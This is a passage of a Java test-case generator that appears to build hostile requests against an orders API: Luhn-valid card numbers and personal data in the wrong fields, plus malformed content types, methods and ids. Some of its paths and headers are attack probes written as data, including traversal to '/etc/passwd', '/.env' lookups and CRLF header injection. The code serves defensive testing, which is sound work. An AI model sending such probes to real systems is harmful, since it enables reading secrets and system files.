    List<String> placements = List.of("paymentToken", "customerId", "lines[0].sku", "email", "shippingAddress.line1",
        "shippingAddress.name", "unknown field", "unknown number field", "field name", "idempotencyKey",
        "Idempotency-Key header", "nested unknown list", "lines[0].quantity");
    for (int i = 0; i < 44; i++) {
      int brand = random.nextInt(prefixes.size());
      String number = luhn(prefixes.get(brand), lengths.get(brand));
      String written = switch (random.nextInt(3)) {
        case 0 -> number;
        case 1 -> grouped(number, " ");
        default -> grouped(number, "-");
      };
      String placement = placements.get(i % placements.size());
      Case c = switch (placement) {
        case "unknown field" -> post("card number in an unknown field", order(o -> o.put("card", written))).expect("card");
        case "unknown number field" -> post("card number as a JSON number",
            text(order(o -> o.put("pan", "NUMBER")), ESCAPING_BODY).replace("\"NUMBER\"", number)).expect("pan");
        case "field name" -> post("card number as a field name", order(o -> o.put(written, "x"))).expect("(unnamed field)");
        case "idempotencyKey" -> post("card number as the idempotencyKey field",
            order(o -> o.put("idempotencyKey", number))).expect("idempotencyKey");
        case "Idempotency-Key header" -> post("card number as the Idempotency-Key header", order(o -> { }))
            .header("idempotency-key", number).expect("header:Idempotency-Key");
        case "nested unknown list" -> post("card number in a nested list",
            order(o -> o.putArray("notes").add("call me").addArray().add(written))).expect("notes[1][0]");
        case "lines[0].quantity" -> post("card number as the quantity",
            text(order(o -> { }), ESCAPING_BODY).replace("\"quantity\":1", "\"quantity\":" + number))
            .expect("lines[0].quantity");
        default -> post("card number in " + placement, text(set(fullOrder(), placement, NODES.textNode(
            placement.equals("email") ? written + "@example.com" : written)), ESCAPING_BODY)).expect(placement);
      };
      add("raw-card-numbers", c.mustNotEcho(written).mustNotEcho(number));
    }
  }

  /** Personal data where it does not belong: it must be refused and never come back or reach a log. */
  private void personalFields() {
    List<String> phones = List.of("+49 30 1234567", "+1 (555) 010-9999", "+44 20 7946 0958", "+33.1.23.45.67.89");
    for (int i = 0; i < phones.size(); i++) {
      String phone = phones.get(i);
      add("personal-fields", post("phone number in an unknown field", order(o -> o.put("phone", phone)))
          .expect("phone").mustNotEcho(phone));
      add("personal-fields", post("phone number as customerId", order(o -> o.put("customerId", phone)))
          .expect("customerId").mustNotEcho(phone));
    }
    List<String> emails = List.of("erika.mustermann@example.com", "john+orders@example.org", "a.b-c@mail.example.net");
    for (String email : emails) {
      add("personal-fields", post("e-mail as customerId", order(o -> o.put("customerId", email)))
          .expect("customerId").mustNotEcho(email));
      add("personal-fields", post("e-mail in the address (with quantity 0)",
          order(o -> {
            address(o).put("line2", "c/o " + email);
            line0(o).put("quantity", 0);
          })).expect("lines[0].quantity").mustNotEcho(email));
      add("personal-fields", post("e-mail with a space", order(o -> o.put("email", email.replace("@", " @"))))
          .expect("email"));
    }
    add("personal-fields", post("e-mail of 300 characters", order(o -> o.put("email", "a".repeat(60) + "@"
        + "b".repeat(230) + ".example")))
        .expect("email"));
    add("personal-fields", post("address with a line of 201 characters",
        order(o -> address(o).put("line1", "Secret Lane " + "9".repeat(189)))).expect("shippingAddress.line1"));
    add("personal-fields", post("address without line1", order(o -> address(o).remove("line1")))
        .expect("shippingAddress.line1"));
    add("personal-fields", post("address with an unknown field holding a birth date",
        order(o -> address(o).put("birthDate", "1970-01-01"))).expect("shippingAddress.birthDate"));
    add("personal-fields", post("a top-level name", order(o -> o.put("name", "Erika Mustermann")))
        .expect("name").mustNotEcho("Erika Mustermann"));
  }

  private void contentTypes() {
    for (String type : List.of("text/plain", "text/json", "text/html", "application/xml", "text/xml",
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/octet-stream",
        "application/javascript", "application/jsonp", "application/x-json", "application/cbor", "application/x-ndjson",
        "image/png", "*/*", "application/*", "json", "application", "application/ json", "application/json,text/plain",
        "application/json; charset=latin1", "application/json; charset=iso-8859-1", "application/json; charset=utf-16",
        "application/json; charset=\"utf-7\"", "application/json; charset=",
        "application/json\r\nx-forged: 1", "application/vnd.api+json,text/plain", " ", "")) {
      add("content-types", post("content type [" + printable(type) + "]", order(o -> { }))
          .noHeaders().header("content-type", type).status(415, "UnsupportedMediaType"));
    }
  }

  private void methodsAndPaths() {
    for (String method : List.of("PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "BREW",
        "", "POST ", " POST", "PO ST", "P\u00D6ST", "GET\u0000", "POST\r\nX")) {
      add("methods-and-paths", request("method [" + printable(method) + "] on /orders", method, "/orders")
          .body(text(order(o -> { }), ESCAPING_BODY)).status(405, "MethodNotAllowed"));
    }
    for (String method : List.of("POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "BREW")) {
      add("methods-and-paths", request("method " + method + " on an order", method, "/orders/ord_known-1")
          .status(405, "MethodNotAllowed"));
    }
    for (String path : List.of("", "/", "/order", "/Orders", "/ORDERS", "/orders/", "//orders", "/orders//",
        "/orders/ord_1/", "/orders/ord_1/items", "/orders/ord_1/..", "/orders/../admin", "/%2e%2e/orders",
        "/orders%2F", "/orders?x=1", "/orders#x", "/api/orders", "/v1/orders", "/prod/orders", "/orders.json",
        "/orders;jsessionid=1", "/\u0000", "/orders/\u0000/x", "orders", "/orders/ord_1/../../etc/passwd",
        "/admin", "/.env", "/actuator/health", "/wp-login.php", "/orders\r\nx-forged: 1")) {
      String method = random.nextBoolean() ? "GET" : "POST";
      add("methods-and-paths", request(method + " [" + printable(path) + "]", method, path)
          .body(text(order(o -> { }), ESCAPING_BODY)).status(404, "NotFound"));
    }
    // Well-formed order ids that exist nowhere: read from the table, answered 404.
    for (int i = 0; i < 8; i++) {
      add("methods-and-paths", request("GET of an unknown order", "GET", "/orders/ord_" + word(1 + random.nextInt(64)))
          .noHeaders().status(404, "OrderNotFound"));
    }
    for (String id : List.of("ord_", "ord_%00", "ord_a%0a", "ord_a b", "ORD_a", "ord-a", "ord_" + "a".repeat(65),
        "ord_a.b", "ord_%2e%2e", "ord_\u00E9")) {
      add("methods-and-paths", request("GET of malformed id [" + printable(id) + "]", "GET", "/orders/" + id)
          .noHeaders().status(404, "OrderNotFound"));
    }
  }

  // ---------------------------------------------------------------- building blocks

  /** A case under construction. */
  private static final class Case {
    private final ObjectNode node = NODES.objectNode();
    private final ArrayNode fields = NODES.arrayNode();
    private final ArrayNode mustNotEcho = NODES.arrayNode();

    Case(String name, String method, String path) {
      node.put("name", name);
      node.put("method", method);
      node.put("path", path);
    }

    Case noHeaders() {
      node.putObject("headers");
      return this;
    }

    Case header(String name, String value) {
      if (!node.has("headers")) {
        node.putObject("headers").put("content-type", "application/json");
      }
      ((ObjectNode) node.get("headers")).put(name, value);
      return this;
    }

    Case body(String text) {
      node.put("body", text);
      return this;
    }

    Case bodyParts(List<ObjectNode> parts) {
      node.putArray("bodyParts").addAll(parts);
      return this;
    }

    Case bodyBase64(byte[] bytes) {
      node.remove("body");
      node.put("bodyBase64", Base64.getEncoder().encodeToString(bytes));
      return this;
    }

    Case base64() {
      node.put("base64", true);
      return this;
    }

    Case expect(String field) {
      fields.add(field);
      return status(400, "ValidationFailed");
    }

    Case status(int status, String error) {
      node.put("expectStatus", status);
      node.put("expectError", error);
      return this;
    }

    Case mustNotEcho(String text) {
      mustNotEcho.add(text);
      return this;
    }

    ObjectNode build(String category) {
      ObjectNode out = NODES.objectNode();
      out.put("name", node.get("name").asText());
      out.put("category", category);
      node.properties().forEach(field -> {
        if (!field.getKey().equals("name")) {
          out.set(field.getKey(), field.getValue());
        }
      });
      if (!fields.isEmpty()) {
        out.set("expectFields", fields);
      }
      if (!mustNotEcho.isEmpty()) {
        out.set("mustNotEcho", mustNotEcho);
      }
      return out;
    }
  }

  private void add(String category, Case c) {
    categories.computeIfAbsent(category, key -> new ArrayList<>()).add(c.build(category));
  }

  private static Case request(String name, String method, String path) {
    return new Case(name, method, path);
  }

  private static Case post(String name, String body) {
    return new Case(name, "POST", "/orders").body(body);
  }

  private static Case post(String name, ObjectNode body) {
    return post(name, text(body, ESCAPING_BODY));
  }

  private static Case post(String name, List<ObjectNode> parts) {
    return new Case(name, "POST", "/orders").bodyParts(parts);
  }

  private static ObjectNode part(String text) {
    return NODES.objectNode().put("text", text);
  }

  private static ObjectNode part(String text, int times) {
    return part(text).put("times", times);
  }

  /** A valid minimal order, changed by {@code change}. */
  private static ObjectNode order(Consumer<ObjectNode> change) {
    ObjectNode order = NODES.objectNode();
    order.put("customerId", "c-hostile");
    order.putArray("lines").addObject().put("sku", "SKU-1").put("quantity", 1);
    order.put("paymentToken", "tok_hostile_base");
    change.accept(order);
    return order;
  }

  /** A valid order with every optional field. */
  private static ObjectNode fullOrder() {
    ObjectNode order = order(o -> { });
    order.put("email", "hostile.buyer@example.net");
    order.putObject("shippingAddress").put("name", "Hostile Buyer").put("line1", "Hostilestrasse 12")
        .put("city", "Hamburg").put("postalCode", "20095").put("country", "DE");
    return order;
  }

  private static ObjectNode line0(ObjectNode order) {
    return (ObjectNode) order.get("lines").get(0);
  }

  private static ObjectNode address(ObjectNode order) {
    if (!order.has("shippingAddress")) {
      order.putObject("shippingAddress").put("line1", "Hostilestrasse 12").put("city", "Hamburg")
          .put("postalCode", "20095").put("country", "DE");
    }
    return (ObjectNode) order.get("shippingAddress");
  }

  /** Sets a value at a path such as {@code lines[0].sku} or {@code shippingAddress.city}. */
  private static ObjectNode set(ObjectNode order, String path, JsonNode value) {
    if (path.equals("lines[0]")) {
      ((ArrayNode) order.get("lines")).set(0, value);
    } else if (path.startsWith("lines[0].")) {
      line0(order).set(path.substring("lines[0].".length()), value);
    } else if (path.startsWith("shippingAddress.")) {
      address(order).set(path.substring("shippingAddress.".length()), value);
    } else {
      order.set(path, value);
    }
    return order;
  }

  private static String text(JsonNode body, ObjectMapper mapper) {
    try {
      return mapper.writeValueAsString(body);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private String digits(int length) {
    StringBuilder digits = new StringBuilder().append((char) ('1' + random.nextInt(9)));
    while (digits.length() < length) {
      digits.append((char) ('0' + random.nextInt(10)));
    }
    return digits.toString();
  }

  private String word(int length) {
    String alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_-";
    StringBuilder word = new StringBuilder();
    while (word.length() < length) {
      word.append(alphabet.charAt(random.nextInt(alphabet.length())));
    }
    return word.toString();
  }

  /** A number of {@code length} digits starting with {@code prefix} whose Luhn check digit is right. */
  private String luhn(String prefix, int length) {
    StringBuilder number = new StringBuilder(prefix);
    while (number.length() < length - 1) {
      number.append((char) ('0' + random.nextInt(10)));
    }
    int sum = 0;
    for (int i = number.length() - 1, position = 0; i >= 0; i--, position++) {
      int digit = number.charAt(i) - '0';
      if (position % 2 == 0) {
        digit *= 2;
        if (digit > 9) {
          digit -= 9;
        }
      }
      sum += digit;
    }
    return number.append((char) ('0' + (10 - sum % 10) % 10)).toString();
  }

  private static String grouped(String number, String separator) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < number.length(); i++) {
      if (i > 0 && i % 4 == 0) {
        out.append(separator);
      }
      out.append(number.charAt(i));
    }
    return out.toString();
  }

  /** A name safe to show in a test report: control and invisible characters as U+XXXX. */
  private static String printable(String text) {
    StringBuilder out = new StringBuilder();
    text.codePoints().forEach(c -> {
      if (c < 0x20 || c == 0x7F || (c >= 0x80 && c < 0xA0) || Character.getType(c) == Character.FORMAT || c > 0x7E) {
        out.append(String.format("U+%04X", c));
      } else {
        out.appendCodePoint(c);
      }
    });
    return out.toString();
  }
}
